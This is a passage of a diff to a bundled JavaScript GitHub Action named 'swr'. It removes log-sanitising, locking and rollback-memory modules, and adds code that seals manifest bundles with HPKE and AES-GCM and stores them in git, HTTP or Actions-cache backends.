-        canaryLargeBytes: inputs_int(Inputs.CanaryLargeBytes, 0, 16 * 1024 * 1024 * 1024),
-        canaryHome: bool(Inputs.CanaryHome, true),
-        canaryKey: canaryKey(),
-        record: bool(Inputs.Record, false)
-    };
-}
-
-;// CONCATENATED MODULE: ./src/action/log.ts
-/**
- * The only way the Action writes to its log. The runner reads every stdout line as a possible
- * workflow command (`::warning::`, `::add-mask::`, `::stop-commands::`, `::save-state`), so a line
- * swr prints must never be one that someone else authored: every message is passed through
- * `escapeText` (no CR, LF or other control survives), a line can never start with `::`, and
- * recipe output is printed only inside a `::stop-commands::` window with a random token. The lint
- * configuration forbids `core.info` and friends, `console` and `process.stdout` elsewhere in
- * src/action, so a raw print cannot come back unnoticed.
- */
-
-
-
-
-/** Longest single log line swr prints; a hostile 10 MB name must not become a 10 MB line. */
-const LINE_MAX = 4096;
-/** One log line: escaped, bounded, and never read by the runner as a command. */
-function safeLine(text) {
-    const line = escapeText(text, { max: LINE_MAX });
-    // The runner trims leading whitespace before looking for `::`.
-    return /^\s*::/.test(line) ? line.replace('::', '\\x3a:') : line;
-}
-/**
- * A command's message: each of swr's own lines escaped; the runner gets them as one command.
- * `%` is left to @actions/core, which percent-encodes command data and properties itself
- * (encoding it here too would show `%25` where the name has `%`).
- */
-function message(text) {
-    return text
-        .split('\n')
-        .map(l => safeLine(l))
-        .join('\n');
-}
-function props(p) {
-    if (!p)
-        return undefined;
-    return {
-        ...(p.title !== undefined ? { title: safeLine(p.title) } : {}),
-        ...(p.file !== undefined ? { file: safeLine(p.file) } : {}),
-        ...(p.startLine !== undefined ? { startLine: p.startLine } : {})
-    };
-}
-/** One line: a newline in `text` is shown as `\n`, never printed. */
-function info(text) {
-    lib_core/* info */.pq(safeLine(text));
-}
-/** Text from a report renderer (which escapes every untrusted string): one log line per line. */
-function rendered(text) {
-    for (const l of text.replace(/\n$/, '').split('\n'))
-        core.info(safeLine(l));
-}
-function warning(text, p) {
-    lib_core/* warning */.$e(message(text), props(p));
-}
-function error(text, p) {
-    core.error(message(text), props(p));
-}
-function notice(text, p) {
-    lib_core/* notice */.lm(message(text), props(p));
-}
-/** Shown only when the run has step debugging on (a stack for a bug report). */
-function debug(text) {
-    core.debug(message(text));
-}
-function setFailed(text) {
-    core.setFailed(message(text));
-}
-function startGroup(name) {
-    core.startGroup(safeLine(name));
-}
-function endGroup() {
-    core.endGroup();
-}
-/** Append Markdown built by the report renderers (which escape every untrusted string). */
-async function writeSummary(markdown) {
-    await core.summary.addRaw(markdown, true).write();
-}
-/**
- * Recipe output must not act as workflow commands: it is printed inside a stop-commands window
- * with a random token, opened before the first recipe line and closed before swr prints anything
- * of its own (groups, errors, warnings), so swr's own commands still work.
- */
-function makeShield() {
-    let token;
-    return {
-        recipeLine(line) {
-            if (!token) {
-                token = randomBytes(16).toString('hex');
-                process.stdout.write(`::stop-commands::${token}${os.EOL}`);
-            }
-            // A lone CR is a line break to some readers: keep each recipe line one line.
-            process.stdout.write(line.replace(/\r/g, '\\r') + os.EOL);
-        },
-        own() {
-            if (token)
-                process.stdout.write(`::${token}::${os.EOL}`);
-            token = undefined;
-        }
-    };
+    return { resign: true };
 }
 
 ;// CONCATENATED MODULE: ./src/core/sign/keys.ts
@@ -41983,7 +47731,7 @@ const HMAC_KEY_FILE = 'hmac.key';
 const IDENTITY_FILE = 'mldsa87.seed';
 /** The seed of this machine's X-Wing key, which seals pushed manifests (see sync.ts). */
 const SYNC_KEY_FILE = 'sync.seed';
-function keyPath(stateDir, name) {
+function keys_keyPath(stateDir, name) {
     return external_node_path_default().join(stateDir, 'keys', name);
 }
 /** The contents of a private key file, or undefined when it does not exist. */
@@ -42013,20 +47761,20 @@ function loadHmacKey(stateDir, envValue) {
             throw new errors_SwrError('SWR_HMAC_KEY must be 64 hex digits or at least 32 characters', errors_EXIT.BAD_MANIFEST);
         return { key, source: 'env' };
     }
-    const text = readPrivate(keyPath(stateDir, HMAC_KEY_FILE));
+    const text = readPrivate(keys_keyPath(stateDir, HMAC_KEY_FILE));
     if (text === undefined)
         return undefined;
     const key = parseHmacKey(text);
     if (!key)
-        throw new errors_SwrError(`${keyPath(stateDir, HMAC_KEY_FILE)}: not a valid key`, errors_EXIT.UNREPAIRABLE);
+        throw new errors_SwrError(`${keys_keyPath(stateDir, HMAC_KEY_FILE)}: not a valid key`, errors_EXIT.UNREPAIRABLE);
     return { key, source: 'file' };
 }
 function loadIdentitySeed(stateDir) {
-    const text = readPrivate(keyPath(stateDir, IDENTITY_FILE));
+    const text = readPrivate(keys_keyPath(stateDir, IDENTITY_FILE));
     if (text === undefined)
         return undefined;
     if (!/^[0-9a-f]{64}\s*$/.test(text))
-        throw new SwrError(`${keyPath(stateDir, IDENTITY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
+        throw new SwrError(`${keys_keyPath(stateDir, IDENTITY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
     return Buffer.from(text.trim(), 'hex');
 }
 /** Create a new random key file; refuses to replace an existing one. */
@@ -42034,14 +47782,14 @@ function createKeyFile(stateDir, name) {
     ensurePrivateDir(stateDir, 'keys');
     const bytes = randomBytes(32);
     try {
-        writeFileAtomic(keyPath(stateDir, name), bytes.toString('hex') + '\n', {
+        writeFileAtomic(keys_keyPath(stateDir, name), bytes.toString('hex') + '\n', {
             mode: 0o600,
             exclusive: true
         });
     }
     catch (err) {
         if (errnoCode(err) === 'EEXIST') {
-            throw new SwrError(`${keyPath(stateDir, name)} already exists: keygen never replaces a key`, EXIT.BAD_MANIFEST);
+            throw new SwrError(`${keys_keyPath(stateDir, name)} already exists: keygen never replaces a key`, EXIT.BAD_MANIFEST);
         }
         throw err;
     }
@@ -42054,11 +47802,11 @@ function loadSyncSeed(stateDir, envValue) {
             throw new SwrError('SWR_SYNC_KEY must be 64 hex digits', EXIT.BAD_MANIFEST);
         return Buffer.from(envValue.trim(), 'hex');
     }
-    const text = readPrivate(keyPath(stateDir, SYNC_KEY_FILE));
+    const text = readPrivate(keys_keyPath(stateDir, SYNC_KEY_FILE));
     if (text === undefined)
         return undefined;
     if (!/^[0-9a-f]{64}\s*$/.test(text))
-        throw new SwrError(`${keyPath(stateDir, SYNC_KEY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
+        throw new SwrError(`${keys_keyPath(stateDir, SYNC_KEY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
     return Buffer.from(text.trim(), 'hex');
 }
 
@@ -42146,251 +47894,6 @@ function parseTrustedSigners(text) {
     return out;
 }
 
-// EXTERNAL MODULE: ./node_modules/proper-lockfile/index.js
-var proper_lockfile = __nccwpck_require__(3648);
-;// CONCATENATED MODULE: ./src/core/state/lock.ts
-/**
- * One exclusive lock per subject, in the private state directory: the manifest file (serialises
- * doctor/restore and every manifest-editing command; taken before the manifest is read, so keyed
- * by its path) and the workspace (so two manifests describing one directory never run recipes in
- * it at once). A waiting run says so once and gives up after a bounded time.
- *
- * Staleness is decided by whether the holder lives, not by how recently it refreshed: a holder on
- * this host whose process is alive (its pid answers signal 0 and its start time is the one it
- * recorded, so a reused pid does not count) keeps the lock however long its event loop is busy.
- * Only a lock without a readable holder note, or held from another host, falls back to the
- * refresh time (`staleMs`). Losing the lock anyway (its file removed, as a wipe of the state
- * directory does, or taken over) is reported through `onLost`, never thrown from a timer.
- */
-
-
-
-
-// Loaded at start-up on purpose: the signal-exit handlers it installs must precede the CLI's own
-// SIGINT/SIGTERM handlers, or a signal re-raised by signal-exit ends swr before it can exit 130.
-
-
-
-
-/**
- * One spelling per file: symlinked paths to the same manifest must take the same lock (and the
- * same rollback memory). A file not created yet is spelled through its directory's real path.
- */
-function canonicalPath(subject) {
-    const abs = external_node_path_default().resolve(subject);
-    try {
-        return external_node_fs_default().realpathSync(abs);
-    }
-    catch {
-        try {
-            return external_node_path_default().join(external_node_fs_default().realpathSync(external_node_path_default().dirname(abs)), external_node_path_default().basename(abs));
-        }
-        catch {
-            return abs;
-        }
-    }
-}
-const sleep = (ms) => new Promise(r => setTimeout(r, ms));
-/** proper-lockfile's own mtime staleness is switched off (a day); this module decides instead. */
-const LIBRARY_STALE_MS = (/* unused pure expression or super */ null && (24 * 3600 * 1000));
-const REFRESH_MS = 2000;
-async function lockWorkspace(opts) {
-    const dir = ensurePrivateDir(opts.stateDir, 'locks');
-    const key = createHash('sha256').update(canonicalPath(opts.subject)).digest('hex').slice(0, 32);
-    const target = path.join(dir, key);
-    const lockDir = `${target}.lock`;
-    const info = path.join(dir, `${key}.holder`);
-    const deadline = Date.now() + opts.waitMs;
-    let warned = false;
-    for (;;) {
-        try {
-            const release = await lockfile.lock(target, {
-                realpath: false,
-                lockfilePath: lockDir,
-                stale: LIBRARY_STALE_MS,
-                update: REFRESH_MS,
-                retries: 0,
-                // proper-lockfile overwrites the code with ECOMPROMISED; the message keeps the cause.
-                onCompromised: err => opts.onLost?.(err.message.includes('ENOENT')
-                    ? 'its file in the state directory was removed'
-                    : 'another process took it over')
-            });
-            try {
-                writeFileAtomic(info, holderNote(), { mode: 0o600 });
-            }
-            catch (err) {
-                await release().catch(() => undefined);
-                throw err;
-            }
-            // An interrupt ends swr with process.exit: proper-lockfile lets go of the lock on exit, and
-            // the note of who held it goes with it.
-            const dropInfo = () => fs.rmSync(info, { force: true });
-            process.once('exit', dropInfo);
-            return async () => {
-                process.removeListener('exit', dropInfo);
-                dropInfo();
-                await release().catch(() => undefined);
-            };
-        }
-        catch (err) {
-            if (err.code !== 'ELOCKED')
-                throw err;
-        }
-        if (takeOverIfStale(lockDir, info, opts.staleMs ?? 10_000))
-            continue;
-        if (opts.abort?.aborted)
-            throw new SwrError(`interrupted while waiting for the lock on ${opts.subject}`, EXIT.INTERRUPTED);
-        if (Date.now() >= deadline) {
-            throw new SwrError(`${opts.subject} is locked by another swr run (${holder(info)}); gave up after ${Math.round(opts.waitMs / 1000)} s`, EXIT.UNREPAIRABLE);
-        }
-        if (!warned) {
-            opts.onWait?.(holder(info));
-            warned = true;
-        }
-        await sleep(150);
-    }
-}
-function holderNote() {
-    const start = startTime(process.pid);
-    return `pid ${process.pid} host ${os.hostname()}${start ? ` start ${start}` : ''} since ${new Date().toISOString()}\n`;
-}
-/** The kernel's start time of a process (clock ticks since boot), where /proc has it. */
-function startTime(pid) {
-    try {
-        const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
-        // Fields after the command name (which may hold spaces and parentheses): state is the first,
-        // starttime (field 22) the twentieth.
-        return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19];
-    }
-    catch {
-        return undefined;
-    }
-}
-/** Whether the process that wrote `note` runs on this host now (undefined: cannot tell). */
-function holderAlive(note) {
-    const m = /^pid (\d+) host (\S+)(?: start (\d+))?/.exec(note);
-    if (!m || m[2] !== os.hostname())
-        return undefined;
-    const pid = Number(m[1]);
-    try {
-        process.kill(pid, 0);
-    }
-    catch (err) {
-        // EPERM: alive, under another user.
-        if (err.code !== 'EPERM')
-            return false;
-    }
-    const recorded = m[3];
-    const now = recorded ? startTime(pid) : undefined;
-    return !(recorded && now && now !== recorded);
-}
-/**
- * Remove a lock whose holder is gone; true when it did. The note is read twice, the second time
- * just before the removal, so a lock taken over by a third run in between is left alone.
- */
-function takeOverIfStale(lockDir, info, staleMs) {
-    const note = readNote(info);
-    const alive = note === undefined ? undefined : holderAlive(note);
-    if (alive === true)
-        return false;
-    if (alive === undefined) {
-        const st = fs.statSync(lockDir, { throwIfNoEntry: false });
-        if (!st)
-            return true;
-        if (Date.now() - st.mtimeMs < staleMs)
-            return false;
-    }
-    if (readNote(info) !== note)
-        return false;
-    try {
-        fs.rmdirSync(lockDir);
-    }
-    catch (err) {
-        if (err.code !== 'ENOENT')
-            return false;
-    }
-    return true;
-}
-function readNote(info) {
-    try {
-        return fs.readFileSync(info, 'utf8');
-    }
-    catch {
-        return undefined;
-    }
-}
-function holder(info) {
-    return readNote(info)?.trim() ?? 'holder unknown';
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/version-memory.ts
-/**
- * Rollback memory: the highest manifest version this machine has accepted for a manifest, and its
- * digest. An older version is a rollback; the same version with another digest is a fork. CI
- * runners start empty, so there the floor comes from the caller (--min-version / an input).
- *
- * Memory is keyed by the manifest's identity, not by how its path was spelled: the real path
- * (symlinks resolved, so `-m` through a link meets the same memory) and, when the signed scope
- * names both repository and manifest path, that scope (so a second checkout of the repository
- * shares it too). Recall takes the highest version under any of the keys; remember writes all of
- * them. Files written under the older spelled-path key are still read (they are the real-path key
- * whenever the path was spelled without a symlink).
- */
-
-
-
-
-
-
-function keyFile(stateDir, identity) {
-    const key = (0,external_node_crypto_.createHash)('sha256').update(identity).digest('hex').slice(0, 32);
-    return external_node_path_default().join(stateDir, 'versions', `${key}.json`);
-}
-/** Every memory file that speaks for this manifest; the first is the real-path key. */
-function memoryFiles(stateDir, manifestFile, scope) {
-    const files = [keyFile(stateDir, canonicalPath(manifestFile))];
-    if (scope?.repository !== undefined && scope.manifest_path !== undefined)
-        files.push(keyFile(stateDir, `scope\0${scope.repository.toLowerCase()}\0${scope.manifest_path}`));
-    return files;
-}
-function readOne(file) {
-    try {
-        const v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
-        return Number.isSafeInteger(v.version) && /^[0-9a-f]{64}$/.test(v.digest) ? v : undefined;
-    }
-    catch {
-        return undefined;
-    }
-}
-function recall(stateDir, manifestFile, scope) {
-    // The spelled-path key is read too: memory written before keys were real paths.
-    const files = [
-        ...memoryFiles(stateDir, manifestFile, scope),
-        keyFile(stateDir, external_node_path_default().resolve(manifestFile))
-    ];
-    let best;
-    for (const f of new Set(files)) {
-        const v = readOne(f);
-        if (v && (!best || v.version > best.version))
-            best = v;
-    }
-    return best;
-}
-/** Remember an accepted manifest under each of its keys; never lowers what is remembered. */
-function remember(stateDir, manifestFile, r, scope) {
-    const old = recall(stateDir, manifestFile, scope);
-    if (old && old.version > r.version)
-        return;
-    try {
-        ensurePrivateDir(stateDir, 'versions');
-        for (const f of memoryFiles(stateDir, manifestFile, scope))
-            writeFileAtomic(f, JSON.stringify(r) + '\n', { mode: 0o600 });
-    }
-    catch {
-        // Memory is a second line of defence; failing to write it must not fail the run.
-    }
-}
-
 ;// CONCATENATED MODULE: ./src/core/sign/policy.ts
 /**
  * Building the gate's policy from explicit sources. The CLI passes its environment, flags and the
@@ -42411,7 +47914,7 @@ function parseRequirement(v) {
 }
 /** The manifest's path relative to its workspace, as a scope's manifest_path names it. */
 function manifestPathInWorkspace(m) {
-    return isInside(m.workspace, m.file)
+    return paths_isInside(m.workspace, m.file)
         ? external_node_path_default().relative(m.workspace, m.file).split((external_node_path_default()).sep).join('/')
         : undefined;
 }
@@ -42435,11 +47938,1619 @@ function makePolicy(m, src) {
         remembered: src.local ? recall(src.stateDir, m.file, m.body.scope) : undefined,
         run: { ...src.run, manifestPath: manifestPathInWorkspace(m) },
         now: src.now,
-        approveDigest: src.approveDigest
+        waiveDigest: src.waiveDigest
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/bundle.ts
+/**
+ * Off-box copies of the recipe book: the signed manifest with its tree indexes, packed into one
+ * bundle that `swr push` stores and `swr pull` brings back after a wipe.
+ *
+ * A bundle is sealed by default: a fresh 256-bit content key encrypts it with AES-256-GCM, and that
+ * key is sealed with HPKE (RFC 9180: the X-Wing hybrid post-quantum KEM, ML-KEM-768 + X25519,
+ * HKDF-SHA256, AES-256-GCM) once per recipient (this machine's sync key, named peers). A bundle in
+ * clear exists only when the user asked for it, and then never carries escrow (see redact.ts).
+ * Sealing is not trust: a pulled manifest is still verified (strict parse, schema, signatures
+ * through the gate) before anything writes or runs it.
+ */
+
+
+/** The first format: one recipient, the whole bundle sealed with HPKE (still read). */
+const SYNC_FORMAT_V1 = 'swr-sync/1';
+const SYNC_FORMAT = 'swr-sync/2';
+const SUITE_NAME = 'HPKE(X-Wing, HKDF-SHA256, AES-256-GCM)';
+const SUITE_V2 = (/* unused pure expression or super */ null && (`${SUITE_NAME} + AES-256-GCM`));
+const INFO_V1 = new TextEncoder().encode('swr manifest bundle v1');
+const INFO = new TextEncoder().encode('swr manifest bundle v2: content key');
+const bundle_MAX_BUNDLE_BYTES = (/* unused pure expression or super */ null && (96 * 1024 * 1024));
+/** Recipients one bundle may be sealed to (each adds about 1.5 KiB). */
+const MAX_RECIPIENTS = 32;
+async function suite() {
+    const [{ CipherSuite, HkdfSha256, Aes256Gcm }, { XWing }] = await Promise.all([
+        Promise.all(/* import() */[__nccwpck_require__.e(84), __nccwpck_require__.e(573)]).then(__nccwpck_require__.bind(__nccwpck_require__, 9573)),
+        Promise.all(/* import() */[__nccwpck_require__.e(84), __nccwpck_require__.e(948)]).then(__nccwpck_require__.bind(__nccwpck_require__, 2948))
+    ]);
+    return new CipherSuite({ kem: new XWing(), kdf: new HkdfSha256(), aead: new Aes256Gcm() });
+}
+function ab(bytes) {
+    return new Uint8Array(bytes).buffer;
+}
+/** The X-Wing public key of a sync seed (what `swr peer mine` prints). */
+async function syncPublicKey(seed) {
+    const s = await suite();
+    const kp = await s.kem.deriveKeyPair(ab(seed));
+    return Buffer.from(await s.kem.serializePublicKey(kp.publicKey));
+}
+/** A short, non-secret name of a recipient's public key. */
+function bundle_recipientId(publicKey) {
+    return createHash('sha256')
+        .update('swr-sync-recipient\0')
+        .update(publicKey)
+        .digest('hex')
+        .slice(0, 16);
+}
+/** Length of a serialized X-Wing public key. */
+const bundle_PUBLIC_KEY_BYTES = 1216;
+/** A public key as typed or pasted (base64, spaces and line breaks allowed), or undefined. */
+function bundle_parsePublicKey(text) {
+    const clean = text.replace(/\s+/g, '');
+    if (!/^[A-Za-z0-9+/]+={0,2}$/.test(clean))
+        return undefined;
+    const bytes = Buffer.from(clean, 'base64');
+    return bytes.length === bundle_PUBLIC_KEY_BYTES ? bytes : undefined;
+}
+/** Pack in clear (the caller decided it may: no escrow, tokens redacted). */
+function packPlain(bundle) {
+    return Buffer.from(JSON.stringify({ format: SYNC_FORMAT, sealed: false, bundle }));
+}
+/** Pack sealed to every public key in `recipients` (at least one). */
+async function packSealed(bundle, recipients) {
+    if (recipients.length === 0 || recipients.length > MAX_RECIPIENTS)
+        throw new SwrError(`a bundle is sealed to 1 to ${MAX_RECIPIENTS} recipients, not ${recipients.length}`, EXIT.BAD_MANIFEST);
+    const s = await suite();
+    const contentKey = randomBytes(32);
+    const iv = randomBytes(12);
+    const cipher = createCipheriv('aes-256-gcm', contentKey, iv);
+    cipher.setAAD(Buffer.from(SYNC_FORMAT));
+    const ct = Buffer.concat([
+        cipher.update(Buffer.from(JSON.stringify(bundle))),
+        cipher.final(),
+        cipher.getAuthTag()
+    ]);
+    const sealedFor = [];
+    for (const pub of recipients) {
+        const sender = await s.createSenderContext({
+            recipientPublicKey: await s.kem.deserializePublicKey(ab(pub)),
+            info: INFO
+        });
+        const key = await sender.seal(ab(contentKey), ab(iv));
+        sealedFor.push({
+            id: bundle_recipientId(pub),
+            enc: Buffer.from(sender.enc).toString('base64'),
+            key: Buffer.from(key).toString('base64')
+        });
+    }
+    contentKey.fill(0);
+    const env = {
+        format: SYNC_FORMAT,
+        sealed: true,
+        suite: SUITE_V2,
+        recipients: sealedFor,
+        iv: iv.toString('base64'),
+        ct: ct.toString('base64')
+    };
+    return Buffer.from(JSON.stringify(env));
+}
+function bundle_refuse(why) {
+    return new SwrError(`pulled bundle refused: ${why}`, EXIT.UNREPAIRABLE);
+}
+function isBundle(v) {
+    const b = v;
+    return (typeof b === 'object' &&
+        b !== null &&
+        typeof b.manifest === 'string' &&
+        typeof b.trees === 'object' &&
+        b.trees !== null &&
+        Object.values(b.trees).every(x => typeof x === 'string') &&
+        (b.redacted === undefined ||
+            (Array.isArray(b.redacted) &&
+                b.redacted.length <= 1000 &&
+                b.redacted.every(x => typeof x === 'string' && /^[A-Z][A-Z0-9_]{0,63}$/.test(x)))));
+}
+function parseBundle(text) {
+    let bundle;
+    try {
+        bundle = JSON.parse(text);
+    }
+    catch {
+        throw bundle_refuse('malformed bundle');
+    }
+    if (!isBundle(bundle))
+        throw bundle_refuse('malformed bundle');
+    return bundle;
+}
+/** What an envelope says about itself before it is opened (for `swr sync status`). */
+function envelopeInfo(bytes) {
+    try {
+        const env = JSON.parse(bytes.toString('utf8'));
+        if (!env.sealed)
+            return { sealed: false, recipients: [] };
+        if (env.format === SYNC_FORMAT_V1)
+            return { sealed: true, recipients: [env.recipient] };
+        return { sealed: true, recipients: env.recipients.map(r => String(r.id)) };
+    }
+    catch {
+        return undefined;
+    }
+}
+/**
+ * Unpack (and open, with `seed`) a bundle; every malformed or unopenable input is a clean refusal.
+ * A bundle in clear is accepted only with `allowPlain` (sealed is the default on both ends).
+ */
+async function unpackBundle(bytes, seed, opts = {}) {
+    if (bytes.length > bundle_MAX_BUNDLE_BYTES)
+        throw bundle_refuse(`${bytes.length} bytes, over the ${bundle_MAX_BUNDLE_BYTES}-byte limit`);
+    let env;
+    try {
+        env = JSON.parse(bytes.toString('utf8'));
+    }
+    catch {
+        throw bundle_refuse('not a bundle');
+    }
+    const format = env?.format;
+    if (format !== SYNC_FORMAT && format !== SYNC_FORMAT_V1)
+        throw bundle_refuse(`unknown format ${JSON.stringify(format)?.slice(0, 40)}`);
+    if (!env.sealed) {
+        if (!isBundle(env.bundle))
+            throw bundle_refuse('malformed bundle');
+        if (opts.allowPlain === false)
+            throw bundle_refuse('it was stored in clear (pass --plaintext-ok to accept it)');
+        return { bundle: env.bundle, sealed: false };
+    }
+    if (!seed)
+        throw bundle_refuse('it is sealed and no sync key is available (SWR_SYNC_KEY, or "swr keygen" on the machine that pushed)');
+    const plain = env.format === SYNC_FORMAT_V1 ? await openV1(env, seed) : await openV2(env, seed);
+    return { bundle: parseBundle(plain), sealed: true };
+}
+function b64(v, what) {
+    if (typeof v !== 'string')
+        throw bundle_refuse(`malformed ${what}`);
+    return ab(Buffer.from(v, 'base64'));
+}
+async function openV1(env, seed) {
+    if (env.suite !== SUITE_NAME)
+        throw bundle_refuse(`unknown suite ${String(env.suite).slice(0, 80)}`);
+    if (env.recipient !== bundle_recipientId(await syncPublicKey(seed)))
+        throw bundle_refuse('it is sealed to another sync key');
+    try {
+        const s = await suite();
+        const kp = await s.kem.deriveKeyPair(ab(seed));
+        const recipient = await s.createRecipientContext({
+            recipientKey: kp.privateKey,
+            enc: b64(env.enc, 'enc'),
+            info: INFO_V1
+        });
+        return new TextDecoder().decode(await recipient.open(b64(env.ct, 'ciphertext')));
+    }
+    catch {
+        throw bundle_refuse('it does not open (altered in transit or storage)');
+    }
+}
+async function openV2(env, seed) {
+    if (env.suite !== SUITE_V2)
+        throw bundle_refuse(`unknown suite ${String(env.suite).slice(0, 80)}`);
+    if (!Array.isArray(env.recipients) || env.recipients.length > MAX_RECIPIENTS)
+        throw bundle_refuse('malformed recipient list');
+    const mine = bundle_recipientId(await syncPublicKey(seed));
+    const slot = env.recipients.find(r => r?.id === mine);
+    if (!slot)
+        throw bundle_refuse('it is sealed to another sync key');
+    const iv = Buffer.from(b64(env.iv, 'iv'));
+    const ct = Buffer.from(b64(env.ct, 'ciphertext'));
+    if (iv.length !== 12 || ct.length < 16)
+        throw bundle_refuse('it does not open (malformed ciphertext)');
+    try {
+        const s = await suite();
+        const kp = await s.kem.deriveKeyPair(ab(seed));
+        const recipient = await s.createRecipientContext({
+            recipientKey: kp.privateKey,
+            enc: b64(slot.enc, 'enc'),
+            info: INFO
+        });
+        const contentKey = Buffer.from(await recipient.open(b64(slot.key, 'sealed key'), ab(iv)));
+        const decipher = createDecipheriv('aes-256-gcm', contentKey, iv);
+        decipher.setAAD(Buffer.from(SYNC_FORMAT));
+        decipher.setAuthTag(ct.subarray(ct.length - 16));
+        const plain = Buffer.concat([decipher.update(ct.subarray(0, ct.length - 16)), decipher.final()]);
+        contentKey.fill(0);
+        return plain.toString('utf8');
+    }
+    catch {
+        throw bundle_refuse('it does not open (altered in transit or storage)');
+    }
+}
+/** The cache key family for one manifest: the newest push wins on pull. */
+function syncKeyPrefix(scope) {
+    return `swr-manifest-v1-${createHash('sha256').update(scope).digest('hex').slice(0, 16)}-`;
+}
+function sha256Hex(bytes) {
+    return createHash('sha256').update(bytes).digest('hex');
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/store.ts
+/**
+ * Where a pushed bundle lives. Every store does three things: `put` bytes and say where they went
+ * (a locator: one string that names the store and the copy), `get` the bytes back by locator, and
+ * `stat` a locator (reachable, and when it was stored when the store knows). The stores:
+ *
+ *   git:REMOTE              a remote name, URL or bare repository path; the bundle is a commit on
+ *                           refs/swr/NAME (git-store.ts)
+ *   http://… / https://…    a URL template taking PUT and serving GET (http-store.ts)
+ *   actions                 the GitHub Actions cache (adapters/actions-cache-store.ts)
+ *
+ * Locators and store spellings come from the user, a recovery code or a record on disk: they are
+ * parsed strictly here, and nothing in them reaches a shell.
+ */
+
+/** Names of copies (a git ref component, a URL path segment). */
+const store_NAME_RE = /^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$/;
+function store_checkName(name) {
+    if (!store_NAME_RE.test(name) || name.includes('..') || name.endsWith('.lock'))
+        throw new UsageError(`bad copy name ${JSON.stringify(name.slice(0, 80))}: use 1-64 letters, digits, ".", "_" or "-"`);
+    return name;
+}
+/** A failure that may pass if tried again later (a 429 or 5xx, a reset connection). */
+class store_Transient extends Error {
+    retryAfterS;
+    constructor(message, 
+    /** Seconds the store asked to wait (Retry-After). */
+    retryAfterS) {
+        super(message);
+        this.retryAfterS = retryAfterS;
+        this.name = 'Transient';
+    }
+}
+function store_storeError(spelling, why) {
+    return new SwrError(`${spelling}: ${why}`, EXIT.UNREPAIRABLE);
+}
+const store_sleep = (ms) => new Promise(r => setTimeout(r, ms));
+/**
+ * Run `op` until it succeeds, fails for good, or the deadline passes. A Transient failure is retried
+ * after its Retry-After, else after an exponential backoff (0.5 s, 1 s, 2 s, … at most 8 s); a wait
+ * that would end past the deadline is not started.
+ */
+async function store_withRetries(what, ctx, op) {
+    const end = Date.now() + ctx.deadlineMs;
+    for (let attempt = 0;; attempt++) {
+        try {
+            return await op();
+        }
+        catch (err) {
+            if (!(err instanceof store_Transient))
+                throw err;
+            const backoff = Math.min(8000, 500 * 2 ** attempt);
+            const waitMs = err.retryAfterS !== undefined ? err.retryAfterS * 1000 : backoff;
+            if (Date.now() + waitMs >= end)
+                throw new SwrError(`${what}: ${err.message}; gave up after ${attempt + 1} attempt${attempt ? 's' : ''} (the ${Math.round(ctx.deadlineMs / 1000)} s limit)`, EXIT.UNREPAIRABLE);
+            ctx.note?.(`${what}: ${err.message}; trying again in ${(waitMs / 1000).toFixed(1)} s`);
+            await store_sleep(waitMs);
+        }
+    }
+}
+/** The kind of store a spelling or locator names. */
+function store_storeKind(spec) {
+    if (spec.startsWith('git:'))
+        return 'git';
+    if (/^https?:\/\//i.test(spec))
+        return 'http';
+    if (spec === 'actions' || spec.startsWith('actions:'))
+        return 'actions';
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/git-store.ts
+/**
+ * A git remote as a store: the bundle becomes the only file (`bundle.json`) of a parentless commit,
+ * pushed to `refs/swr/NAME` of the remote (a remote name of the current repository, a URL, or a
+ * bare repository's path). The machine's own `git` does the work from a private, temporary bare
+ * repository, so no working tree, index or branch of any repository is touched. Each push replaces
+ * the ref (the remote keeps the newest bundle only).
+ *
+ * Locator: `git:REMOTE#NAME`, REMOTE resolved (a remote name becomes its URL, a path becomes
+ * absolute) and without any password it held. Only the file, git, http(s) and ssh transports are
+ * allowed (never `ext::`), git never prompts, and a remote spelled with a leading "-" is refused.
+ */
+
+
+
+
+
+
+const FILE = 'bundle.json';
+/** `git ARGS` without a shell; resolves to stdout, rejects with git's last stderr line. */
+function git(ctx, args, opts = {}) {
+    const maxOut = opts.maxOut ?? 1 << 20;
+    const env = {
+        ...ctx.env,
+        GIT_TERMINAL_PROMPT: '0',
+        GIT_ALLOW_PROTOCOL: 'file:git:http:https:ssh',
+        GIT_AUTHOR_NAME: 'swr',
+        GIT_AUTHOR_EMAIL: 'swr@localhost',
+        GIT_COMMITTER_NAME: 'swr',
+        GIT_COMMITTER_EMAIL: 'swr@localhost',
+        GIT_SSH_COMMAND: ctx.env.GIT_SSH_COMMAND ?? 'ssh -o BatchMode=yes',
+        LC_ALL: 'C'
+    };
+    for (const k of ['GIT_DIR', 'GIT_WORK_TREE', 'GIT_INDEX_FILE', 'GIT_OBJECT_DIRECTORY'])
+        delete env[k];
+    return new Promise((resolve, reject) => {
+        // No hook of any template or configuration runs in the scratch repository.
+        const child = spawn('git', ['-c', 'core.hooksPath=/dev/null', ...args], {
+            cwd: opts.cwd ?? ctx.cwd,
+            env,
+            stdio: ['pipe', 'pipe', 'pipe']
+        });
+        const out = [];
+        let outBytes = 0;
+        let err = '';
+        let failed;
+        const timer = setTimeout(() => {
+            failed = new Error(`git ${args[0]} took longer than ${Math.round(ctx.deadlineMs / 1000)} s`);
+            child.kill('SIGKILL');
+        }, ctx.deadlineMs);
+        child.stdout.on('data', (c) => {
+            outBytes += c.length;
+            if (outBytes > maxOut) {
+                failed = new Error(`git ${args[0]} printed more than ${maxOut} bytes`);
+                child.kill('SIGKILL');
+            }
+            else
+                out.push(c);
+        });
+        child.stderr.on('data', (c) => {
+            err = (err + c.toString('utf8')).slice(-4000);
+        });
+        child.on('error', e => reject(new Error(e.code === 'ENOENT' ? 'git is not installed' : e.message)));
+        child.on('close', code => {
+            clearTimeout(timer);
+            if (failed)
+                return reject(failed);
+            if (code !== 0) {
+                const line = err.trim().split('\n').filter(Boolean).pop() ?? `exit ${code}`;
